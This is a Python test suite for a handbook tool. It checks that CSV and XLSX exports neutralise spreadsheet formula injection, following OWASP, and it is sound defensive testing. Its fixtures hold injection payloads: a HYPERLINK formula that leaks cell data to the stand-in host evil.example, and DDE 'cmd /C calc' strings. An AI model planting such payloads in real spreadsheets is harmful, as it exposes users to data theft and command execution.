"""Spreadsheet-safe exports (CSV injection, OWASP): whatever text the data holds, no cell
of a CSV or XLSX export is read as a formula by a spreadsheet.

- CSV: a text cell that starts with `=`, `+`, `-`, `@`, a tab or a CR is written behind
  an apostrophe (`'=1+1`); a cell holding a CR is quoted, so that it never ends the row.
- XLSX: every text cell is a string cell, shown as written, never a formula.
- Numbers and dates stay typed.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import shutil
import zipfile
from datetime import datetime

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from conftest import FIXTURES, HandbookDir
from sms_handbook.core.site import exports
from sms_handbook.core.site.layout import Layout
from sms_handbook.core.site.site_data import prepare

ENV = {"SOURCE_DATE_EPOCH": "1775000000"}  # 2026-04-01
#: The first characters OWASP names (the oracle, written apart from the code's own).
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CALC = "+cmd|' /C calc'!A0"

#: Register cells (document id, column) as the data files give them.
REGISTER = {
    ("POL-001", "title"): HYPERLINK,
    ("REC-001", "title"): CALC,
    ("REC-001", "location"): "-2+3+cmd|' /C calc'!A0",
    ("REC-001", "disposal"): "@SUM(1+1)*cmd|' /C calc'!A0",
    ("REC-001", "protection"): "\t=1+1",
    # check refuses a carriage return in data (control-character): the property test
    # below covers it in the writers.
    ("POL-001", "owner_name"): "+Jane Doe",
    ("POL-001", "approver_name"): "@Mo Khan",
}
#: The one disposal's cells.
DISPOSAL = {
    "record_title": CALC,
    "what": "=1+1",
    "method": "-destroy",
    "authorised_by_name": "@Mo Khan",
    "notes": "+notes",
}


def as_read(text: str) -> str:
    """Text as an XML parser reads it back (XML 1.0, 2.11): every line break as LF."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def guarded(text: str) -> str:
    return "'" + text if text.startswith(DANGEROUS) else text


def csv_rows(text: str) -> list[dict[str, str]]:
    """The rows of a CSV export; no cell starts as a formula may."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for row in rows:
        assert not any(v.startswith(DANGEROUS) for v in row.values()), row
    return rows


def xlsx_rows(data: bytes) -> list[dict[str, object]]:
    """The rows of an XLSX export, each cell as openpyxl reads it; no cell is a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name) and b"<f " not in book.read(name)
    sheet = load_workbook(io.BytesIO(data)).active
    header, *rows = sheet.iter_rows()
    assert all(cell.data_type != "f" for row in rows for cell in row)
    return [{h.value: c for h, c in zip(header, row, strict=True)} for row in rows]


@pytest.fixture
def injected(minimal: HandbookDir) -> HandbookDir:
    """The minimal handbook with text that starts as a formula may in every free field."""

    def text(key: object) -> str:
        value = REGISTER[key] if key in REGISTER else DISPOSAL[key]
        return json.dumps(value)  # a YAML double-quoted scalar

    docs, org = "data/documents.yml", "data/organization.yml"
    minimal.replace(
        "data/policies.yml",
        "title: Change management policy",
        f"title: {text(('POL-001', 'title'))}",
    )
    minimal.replace(docs, "title: Incident records", f"title: {text(('REC-001', 'title'))}")
    minimal.replace(
        docs, "location: ITSM tool, Incidents module", f"location: {text(('REC-001', 'location'))}"
    )
    minimal.replace(
        docs,
        "    retention: 3 years\n",
        f"    retention: 3 years\n    disposal: {text(('REC-001', 'disposal'))}\n"
        f"    protection: {text(('REC-001', 'protection'))}\n",
    )
    minimal.replace(org, "name: Jane Doe", f"name: {text(('POL-001', 'owner_name'))}")
    minimal.replace(org, "name: Mo Khan", f"name: {text(('POL-001', 'approver_name'))}")
    minimal.write(
        "data/disposals.yml",
        "disposals:\n  - record: REC-001\n    date: 2026-02-01\n    authorised_by: mkhan\n"
        + "".join(f"    {k}: {text(k)}\n" for k in ("what", "method", "notes")),
    )
    done = minimal.cli("check", env=ENV)
    assert done.returncode == 0, done.stdout + done.stderr
    return minimal


def exported(handbook: HandbookDir, what: str, format: str) -> bytes:
    out = handbook.path(f"{what}.{format}")
    done = handbook.cli("export", "--what", what, "--format", format, "-o", str(out), env=ENV)
    assert done.returncode == 0, done.stderr
    return out.read_bytes()


def test_the_register_xlsx_shows_the_text_and_runs_no_formula(injected: HandbookDir) -> None:
    rows = {r["id"].value: r for r in xlsx_rows(exported(injected, "register", "xlsx"))}
    for (doc, column), text in REGISTER.items():
        cell = rows[doc][column]
        assert cell.data_type == "s" and cell.value == as_read(text), (column, cell.value)
        assert cell.quotePrefix  # Excel keeps it text when it is edited
    assert not rows["PRC-001"]["title"].quotePrefix
    assert rows["POL-001"]["revision_count"].value == 1  # a number stays a number
    assert isinstance(rows["POL-001"]["approved_on"].value, datetime)  # a date, a date


def test_the_register_csv_puts_an_apostrophe_before_formulas(injected: HandbookDir) -> None:
    rows = {r["id"]: r for r in csv_rows(exported(injected, "register", "csv").decode())}
    for (doc, column), text in REGISTER.items():
        assert rows[doc][column] == "'" + text, column
    assert rows["POL-001"]["version"] == "1.0" and rows["POL-001"]["revision_count"] == "1"


def test_the_sites_csv_files_are_guarded(injected: HandbookDir) -> None:
    done = injected.build(env=ENV)
    assert done.returncode == 0, done.stderr
    site = injected.path("site")
    documents = (site / "documents.csv").read_bytes().decode()
    rows = {r["id"]: r for r in csv_rows(documents)}
    for (doc, column), text in REGISTER.items():
        assert rows[doc][column] == "'" + text, column
    assert documents == exported(injected, "register", "csv").decode()
    compliance = (site / "compliance.csv").read_bytes().decode()
    assert {r["clause"] for r in csv_rows(compliance)} >= {"8.5.1", "8.6.1"}


def test_the_disposal_log_is_guarded(injected: HandbookDir) -> None:
    (row,) = csv_rows(exported(injected, "disposals", "csv").decode())
    assert {k: row[k] for k in DISPOSAL} == {k: "'" + v for k, v in DISPOSAL.items()}
    (cells,) = xlsx_rows(exported(injected, "disposals", "xlsx"))
    assert {k: cells[k].value for k in DISPOSAL} == DISPOSAL
    assert isinstance(cells["date"].value, datetime)


def test_the_compliance_matrix_is_guarded(injected: HandbookDir) -> None:
    """Its text comes from the standard's catalogue and checked evidence: it passes."""
    table = csv_rows(exported(injected, "compliance", "csv").decode())
    cells = xlsx_rows(exported(injected, "compliance", "xlsx"))
    assert [r["clause"] for r in table] == [r["clause"].value for r in cells]


def test_numbers_and_dates_stay_typed_text_is_guarded() -> None:
    """A negative number as a number is left alone; as text (a version "-1") it gets
    the apostrophe in CSV: the OWASP trade-off."""
    columns = ("number", "text", "when")
    rows = [{"number": -1, "text": "-1", "when": "2026-02-01"}]
    assert exports.table_csv(columns, rows) == "number,text,when\n-1,'-1,2026-02-01\n"
    (row,) = xlsx_rows(exports.table_xlsx(columns, rows, "T", ("when",)))
    assert (row["number"].data_type, row["number"].value) == ("n", -1)
    assert (row["text"].data_type, row["text"].value) == ("s", "-1")
    assert row["when"].is_date


# --- whatever the title ---------------------------------------------------------------

#: Text openpyxl takes (it refuses most C0 controls: the XLSX export fails on them, as it
#: always has; YAML refuses them unless escaped), starting with anything.
TEXT = st.text(
    st.characters(blacklist_categories=("Cs",)).filter(
        lambda c: not ILLEGAL_CHARACTERS_RE.match(c)
    ),
    max_size=12,
)
TITLES = st.builds(
    str.__add__, st.sampled_from(["", *DANGEROUS, "'", " ", "#N/A", "\n"]), TEXT
).filter(bool)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory):
    root = tmp_path_factory.mktemp("safety") / "handbook"
    shutil.copytree(FIXTURES / "minimal", root)
    handbook = HandbookDir(root).load().handbook
    assert handbook is not None
    return prepare(handbook, Layout(), root, root / "content", environ=ENV, revisions=False)


@settings(
    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(title=TITLES)
@example(title=HYPERLINK)
@example(title="Plan\r=1+1")  # a CR inside a cell must not end its row
@example(title="#N/A")  # text, not an error value
def test_any_title_is_text_in_every_export(site, title: str) -> None:
    register = [
        dataclasses.replace(e, doc=dataclasses.replace(e.doc, title=title)) for e in site.register
    ]
    handbook, layout = site.handbook, site.layout
    table = csv_rows(exports.documents_csv(register, handbook, layout))
    assert [r["title"] for r in table] == [guarded(title)] * len(register)
    cells = xlsx_rows(exports.documents_xlsx(register, handbook, layout))
    assert all(r["title"].data_type == "s" for r in cells)
    assert all(r["title"].quotePrefix == title.startswith(DANGEROUS) for r in cells)
    assert [r["title"].value for r in cells] == [as_read(title)] * len(register)


def test_a_title_openpyxl_refuses_still_fails_the_xlsx_export(site) -> None:
    """What openpyxl refuses is refused, not changed (as before this guard)."""
    from openpyxl.utils.exceptions import IllegalCharacterError

    register = [
        dataclasses.replace(e, doc=dataclasses.replace(e.doc, title="=a\x0bb"))
        for e in site.register
    ]
    with pytest.raises(IllegalCharacterError):
        exports.documents_xlsx(register, site.handbook, site.layout)
    assert csv_rows(exports.documents_csv(register, site.handbook, site.layout))
